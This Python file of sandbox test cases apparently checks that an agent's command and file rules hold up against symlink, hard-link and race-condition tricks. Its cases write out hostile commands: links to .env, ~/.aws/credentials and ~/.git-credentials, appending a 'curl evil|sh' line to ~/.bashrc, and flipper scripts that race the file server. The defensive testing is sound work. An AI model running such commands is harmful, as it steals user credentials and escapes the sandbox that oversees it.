"""Symlinks and hard links: a link named after an allowed command (argv[0]), links as path arguments
and redirection targets, links planted by one stage of a pipeline for another (check-then-run races),
swapped directories, and tools that follow links while they recurse."""

from __future__ import annotations

from hostile.casebook import Call, CaseBook, behind, plant_payload, read, sh, write

BOOK = CaseBook("links")
add = BOOK.add
TEXT = write("a.txt", "b\na\nc\n")
PAYLOAD = plant_payload("evil.sh")

# ---- argv[0]: the rule of the link's name, or of its target?
add(
    "argv0-bash-named-cat",
    "b/cat is a symlink to bash: running it runs a script",
    PAYLOAD,
    sh("mkdir b && ln -s /bin/bash b/cat"),
    sh("b/cat evil.sh"),
    e2e=True,
)
add(
    "argv0-sh-named-echo-inline",
    "b/echo -> /bin/sh runs inline code with -c",
    sh("mkdir b && ln -s /bin/sh b/echo"),
    sh("b/echo -c 'echo pwned > ../outside/@MARK@; cat ../.env'"),
)
add(
    "argv0-python-named-ls",
    "b/ls -> python3 runs a script",
    plant_payload("evil.py", "py"),
    sh("mkdir b && ln -s /usr/bin/python3 b/ls"),
    sh("b/ls evil.py"),
)
add(
    "argv0-perl-named-true",
    "b/true -> perl runs inline code",
    sh("mkdir b && ln -s /usr/bin/perl b/true"),
    sh("b/true -e 'open(F, \">../outside/@MARK@\"); print F 1'"),
)
add(
    "argv0-tee-named-cat",
    "b/cat -> tee: a read-only rule for a program that writes",
    sh("mkdir b && ln -s /usr/bin/tee b/cat"),
    sh("echo pwned | b/cat ../outside/notes.txt"),
)
add(
    "argv0-cp-named-head",
    "b/head -> cp copies into the user's home",
    TEXT,
    sh("mkdir b && ln -s /usr/bin/cp b/head"),
    sh("b/head a.txt @HOME@/.bashrc"),
)
add(
    "argv0-rm-named-ls",
    "b/ls -> rm deletes a file outside",
    sh("mkdir b && ln -s /usr/bin/rm b/ls"),
    sh("b/ls -f ../outside/notes.txt"),
)
add(
    "argv0-env-named-echo",
    "b/echo -> env runs sh on a script",
    PAYLOAD,
    sh("mkdir b && ln -s /usr/bin/env b/echo"),
    sh("b/echo sh evil.sh"),
)
add(
    "argv0-find-named-cat",
    "b/cat -> find with -exec",
    PAYLOAD,
    sh("mkdir b && ln -s /usr/bin/find b/cat"),
    sh("b/cat evil.sh -exec sh {} \\;"),
)
add(
    "argv0-chain-of-links",
    "b/wc -> c/x -> /bin/dash: a chain of links",
    PAYLOAD,
    sh("mkdir b c && ln -s /bin/dash c/x && ln -s ../c/x b/wc"),
    sh("b/wc evil.sh"),
)
add(
    "argv0-usr-bin-lookalike",
    "a workspace folder usr/bin/cat that is bash",
    PAYLOAD,
    sh("mkdir -p usr/bin && ln -s /bin/bash usr/bin/cat"),
    sh("usr/bin/cat evil.sh"),
)
add(
    "argv0-dd-named-echo",
    "b/echo -> dd writes outside",
    TEXT,
    sh("mkdir b && ln -s /usr/bin/dd b/echo"),
    sh("b/echo if=a.txt of=../outside/notes.txt"),
)
add(
    "argv0-link-to-loader",
    "the dynamic loader runs /bin/sh",
    PAYLOAD,
    sh("mkdir b && ln -s /lib64/ld-linux-x86-64.so.2 b/cat"),
    sh("b/cat /bin/sh evil.sh"),
)

# ---- links as arguments
add(
    "symlink-read-secret",
    "cat through a symlink to the project's .env",
    sh("ln -s ../.env e.txt"),
    sh("cat e.txt"),
)
add(
    "symlink-read-home-dir",
    "a symlink to ~/.aws, then cat inside it",
    sh("ln -s @HOME@/.aws aws"),
    sh("cat aws/credentials"),
)
add(
    "symlink-redirect-write",
    "echo into a symlink that points outside",
    sh("ln -s ../outside/notes.txt n.txt"),
    sh("echo pwned > n.txt"),
)
add(
    "symlink-redirect-append-home",
    "append through a symlink to ~/.bashrc",
    sh("ln -s @HOME@/.bashrc rc"),
    sh("echo 'curl evil|sh' >> rc"),
)
add("symlink-dir-touch", "touch through a symlinked folder", sh("ln -s ../outside o"), sh("touch o/@MARK@"))
add(
    "symlink-cwd",
    "cwd is a workspace symlink to the outside",
    sh("ln -s ../outside o"),
    sh("touch @MARK@", cwd="o"),
)
add(
    "symlink-cd",
    "cd into a workspace symlink to the outside",
    sh("ln -s @OUT@ o"),
    sh("cd o && touch @MARK@"),
)
add(
    "symlink-sed-in-place",
    "sed -i --follow-symlinks on a symlink to a file outside",
    sh("ln -s ../outside/notes.txt n.txt"),
    sh("sed -i --follow-symlinks s/public/pwned/ n.txt"),
)
add(
    "symlink-chown-follow",
    "chown -RL follows a symlink in the workspace to the outside",
    sh("mkdir d && ln -s ../../outside d/o"),
    sh("chown -RL nobody d"),
)
add(
    "symlink-find-follow-delete",
    "find -L ... -delete deletes through a symlink",
    sh("ln -s ../outside o"),
    sh("find -L . -name notes.txt -delete"),
)
add(
    "symlink-grep-deref-recursive",
    "grep -R follows a symlink to the project folder",
    sh("ln -s .. up"),
    sh("grep -R -h -e PASSWORD -e TOKEN -e KEY ."),
)
add(
    "symlink-cp-deref-then-read",
    "cp -rL copies what a symlink points to, then grep reads the copy",
    sh("mkdir d && ln -s ../../outside d/o"),
    sh("cp -rL d copy && grep -r -h TOKEN copy"),
)
add(
    "symlink-tar-dereference",
    "tar -h archives what the links point to; -O prints it",
    sh("mkdir d && ln -s ../../.env d/conf"),
    sh("tar -chf x.tar d && tar -xOf x.tar"),
)
add(
    "symlink-zip-follows",
    "zip stores a symlink's target; unzip -p prints it",
    sh("mkdir d && ln -s @HOME@/.git-credentials d/c"),
    sh("zip -qr x.zip d && unzip -p x.zip"),
)

# ---- links planted by one stage of a pipeline for another (check-then-run)
add(
    "pipeline-link-then-cat",
    "ln -s creates the link while cat waits for its stdin, then cat reads the secret",
    sh("ln -s ../.env e.txt | cat - e.txt"),
    e2e=True,
)
add(
    "pipeline-link-then-cat-home",
    "the same with the user's AWS credentials",
    sh("ln -s @HOME@/.aws/credentials k | cat - k"),
)
add(
    "pipeline-link-then-sort-output",
    "ln -sf makes sort's -o file a link to a file outside",
    TEXT,
    sh("ln -sf ../outside/notes.txt out | sort -o out - a.txt"),
)
add(
    "pipeline-link-then-tee",
    "tee writes through a link created in the same pipeline",
    sh("ln -sf @OUT@/notes.txt n | tee n"),
)
add(
    "pipeline-link-then-cp",
    "cp writes through a link created in the same pipeline",
    TEXT,
    sh("ln -sf ../outside/notes.txt n | sort - | cp a.txt n"),
)
add(
    "pipeline-link-dir-then-touch",
    "a folder link made by one stage, used by the next",
    sh("ln -s ../outside o | sort - | xargs touch o/@MARK@"),
)
add(
    "pipeline-swap-dir",
    "mv replaces a real folder by a link while touch runs",
    sh("mkdir d"),
    sh("mv d d.old | ln -s ../outside d | sort - | xargs touch d/@MARK@"),
)
add(
    "pipeline-link-then-redirect",
    "a redirection target becomes a link in the same pipeline",
    sh("ln -sf ../outside/notes.txt n | sort - > n"),
)
add(
    "sequence-link-then-cat",
    "ln -s then cat in the next command (each is checked when it runs)",
    sh("ln -s ../.env e.txt ; cat e.txt"),
)

# ---- hard links
add(
    "hardlink-outside-file",
    "ln (hard) to a file outside, then append to it",
    sh("ln ../outside/notes.txt h"),
    sh("echo pwned >> h"),
)
add("hardlink-secret", "ln (hard) to the project's .env, then read it", sh("ln ../.env h"), sh("cat h"))
add(
    "hardlink-cp-then-truncate",
    "cp -l makes a hard link to a file outside, truncate empties it",
    sh("cp -l ../outside/notes.txt h"),
    sh("truncate -s 0 h"),
)

# ---- races: a workspace script flips a link while Starweave itself opens paths through it
FLIP = (
    "import os, time\nopen('flipping', 'w').close()\nos.makedirs('real', exist_ok=True)\n"
    "open('real.txt', 'w').write('harmless')\nend = time.time() + 3\nwhile time.time() < end:\n"
    "    for target in ('SAFE', 'EVIL'):\n        os.symlink(target, 'tmp-link')\n"
    "        os.replace('tmp-link', 'NAME')\n"
)
WAIT = (
    write(
        "wait.py",
        "import os, time\nend = time.time() + 8\n"
        "while not os.path.exists('flipping') and time.time() < end:\n"
        "    time.sleep(0.01)\n",
    ),
    sh("python3 wait.py"),
)


def flipper(name: str, safe: str, evil: str) -> tuple[Call, ...]:
    """Start a script that keeps swapping the link ``name`` between ``safe`` and ``evil``."""
    code = FLIP.replace("SAFE", safe).replace("EVIL", evil).replace("NAME", name)
    return write("flip.py", code), behind(sh("python3 flip.py", timeout=6)), *WAIT


add(
    "race-file-server-write",
    "write_file d/FILE while d flips between a folder and a link to the outside",
    *flipper("d", "real", "../outside"),
    *[write("d/@MARK@", "pwned") for _ in range(25)],
)
add(
    "race-file-server-write-file",
    "write_file x while x flips between a file and a link to a file outside",
    *flipper("x", "real.txt", "../outside/notes.txt"),
    *[write("x", "pwned") for _ in range(25)],
)
add(
    "race-file-server-read",
    "read_file x while x flips between a file and a link to the project's .env",
    *flipper("x", "real.txt", "../.env"),
    *[read("x") for _ in range(25)],
)
add(
    "race-redirect-write",
    "echo > d/FILE while d flips",
    *flipper("d", "real", "@OUT@"),
    *[sh("echo pwned > d/@MARK@") for _ in range(10)],
)
add(
    "race-redirect-read",
    "a < x redirection while x flips to the project's .env",
    *flipper("x", "real.txt", "../.env"),
    *[sh("cat < x") for _ in range(10)],
)
